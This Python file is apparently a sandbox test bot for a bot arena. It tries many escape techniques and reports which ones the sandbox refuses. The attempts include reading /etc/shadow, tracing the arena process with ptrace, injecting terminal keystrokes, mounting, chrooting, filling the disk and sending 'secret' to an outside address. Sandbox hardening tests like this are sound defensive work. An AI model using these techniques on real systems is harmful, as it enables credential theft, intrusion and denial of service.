"""A bot that tries to break out of its sandbox: one question, and its answer says what came of each attempt.

`spy.py OTHERS_FOLDER ARENA_PID TCP_PORT ABSTRACT_SOCKET`, with the arena's database in that folder's parent.
An attempt that raises OSError was refused; one that returns got through. Don't run it outside a sandbox.
"""
# ruff: noqa: PTH208

import ctypes
import fcntl
import os
import resource
import shutil
import signal
import socket
import sys
import termios
import time
from collections.abc import Callable
from pathlib import Path

OTHERS_FOLDER, ARENA_PID, TCP_PORT, ABSTRACT_SOCKET = sys.argv[1:]
HERE = Path(__file__).parent
TOO_MUCH_MB = 200
PTRACE_SEIZE = 0x4206  # unlike PTRACE_ATTACH it does not stop the arena, should it work
CLONE_NEWUSER = 0x10000000

Attempt = Callable[[], object]
ATTEMPTS: dict[str, Attempt] = {}
libc = ctypes.CDLL(None, use_errno=True)


def attempt(trial: Attempt) -> Attempt:
    ATTEMPTS[trial.__name__] = trial
    return trial


def checked(result: int) -> int:
    if result < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return result


def write_to(path: Path) -> int:
    return path.write_text("the spy was here")


def fill(folder: Path) -> str:
    with (folder / "filler").open("wb", 0) as file:
        for _ in range(TOO_MUCH_MB):
            file.write(bytes(1 << 20))
            if file.tell() >> 20 == 30:
                file.seek(0)  # another file is needed: this one has its own limit
                shutil.copy(folder / "filler", folder / f"filler{len(os.listdir(folder))}")
    return "there was room for more than allowed"


def refuse_if(nothing: bool, words: str) -> None:
    if nothing:
        raise OSError(words)


@attempt
def write_into_the_system() -> object:
    return write_to(Path("/usr/spy"))


@attempt
def write_settings() -> object:
    return write_to(Path("/etc/spy"))


@attempt
def write_beside_its_program() -> object:
    return write_to(HERE / "spy_was_here")


@attempt
def change_its_program() -> object:
    with Path(__file__).open("ab") as file:
        return file.write(b"")


@attempt
def write_at_the_root() -> object:
    return write_to(Path("/spy"))


@attempt
def write_among_devices() -> object:
    return write_to(Path("/dev/spy"))


@attempt
def write_kernel_settings() -> object:
    path = Path("/proc/sys/vm/swappiness")
    return path.write_text(path.read_text())


@attempt
def read_another_bots_folder() -> object:
    return os.listdir(OTHERS_FOLDER)


@attempt
def read_the_database() -> object:
    return (Path(OTHERS_FOLDER).parent / "arena.db").read_bytes()


@attempt
def read_passwords() -> object:
    return Path("/etc/shadow").read_bytes()


@attempt
def list_homes() -> object:
    found = [name for home in ("/root", "/home") if Path(home).exists() for name in os.listdir(home)]
    refuse_if(not set(found) - {".pyenv"}, "no home to be seen")
    return found


@attempt
def connect_to_loopback() -> object:
    return socket.create_connection(("127.0.0.1", int(TCP_PORT)), timeout=2)


@attempt
def connect_to_an_abstract_socket() -> object:
    with socket.socket(socket.AF_UNIX) as client:
        client.connect("\0" + ABSTRACT_SOCKET)
        return True


@attempt
def send_to_the_internet() -> object:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as client:
        return client.sendto(b"secret", ("192.0.2.1", 9))


@attempt
def signal_the_arena() -> object:
    os.kill(int(ARENA_PID), 0)
    return True


@attempt
def trace_the_arena() -> object:
    return checked(libc.ptrace(PTRACE_SEIZE, int(ARENA_PID), 0, 0))


@attempt
def see_other_processes() -> object:
    pids = sorted(int(name) for name in os.listdir("/proc") if name.isdigit())
    refuse_if(os.getpid() in pids and len(pids) <= 2, f"only {pids} to be seen")
    return pids


@attempt
def open_the_terminal() -> object:
    return os.open("/dev/tty", os.O_RDWR)


@attempt
def type_into_a_terminal() -> object:
    return [fcntl.ioctl(descriptor, termios.TIOCSTI, b"x") for descriptor in range(3)]


@attempt
def become_another_user() -> object:
    os.setgroups([])
    os.setuid(1)
    return True


@attempt
def gain_capabilities_in_a_namespace() -> object:
    return checked(libc.unshare(CLONE_NEWUSER))


@attempt
def mount_something() -> object:
    return checked(libc.mount(b"none", b"/tmp", b"tmpfs", 0, None))


@attempt
def remount_the_system() -> object:
    remount_bind = 32 | 4096
    return checked(libc.mount(b"none", b"/usr", None, remount_bind, None))


@attempt
def make_a_device() -> object:
    os.mknod("/tmp/disk", 0o60666, os.makedev(8, 0))
    return True


@attempt
def change_the_root() -> object:
    os.chroot("/tmp")
    return True


@attempt
def fill_the_scratch_folder() -> object:
    return fill(Path("/tmp"))


@attempt
def fill_shared_memory() -> object:
    return fill(Path("/dev/shm"))


@attempt
def raise_its_limits() -> object:
    return checked(libc.setrlimit(resource.RLIMIT_NOFILE, (ctypes.c_ulong * 2)(100_000, 100_000)))


@attempt
def find_inherited_descriptors() -> object:
    found = [int(name) for name in os.listdir("/proc/self/fd")]
    refuse_if(len(found) <= 4, f"only {found}")  # the last is the listing itself
    return found


@attempt
def find_secrets_in_the_environment() -> object:
    found = [name for name in os.environ if "ARENA_SEED" in name]
    refuse_if(not found, "nothing of that name")
    return found


@attempt
def find_the_arena_in_shared_memory() -> object:
    found = Path("/proc/sysvipc/shm").read_text().splitlines()[1:]
    refuse_if(not found, "no segments")
    return found


@attempt
def change_the_clock() -> object:
    time.clock_settime(time.CLOCK_REALTIME, time.time())
    return True


@attempt
def name_the_machine() -> object:
    socket.sethostname("spy")
    return True


def tried(trial: Attempt) -> str:
    try:
        return f"got {trial()!r}"
    except OSError as error:
        return f"refused: {error}"


def main() -> None:
    os.read(0, 1 << 16)
    signal.alarm(50)
    text = repr({name: tried(trial) for name, trial in ATTEMPTS.items()}).encode()
    os.write(1, b"\x81\xa5spied\xda" + len(text).to_bytes(2, "big") + text)
    os.read(0, 1)


if __name__ == "__main__":
    main()
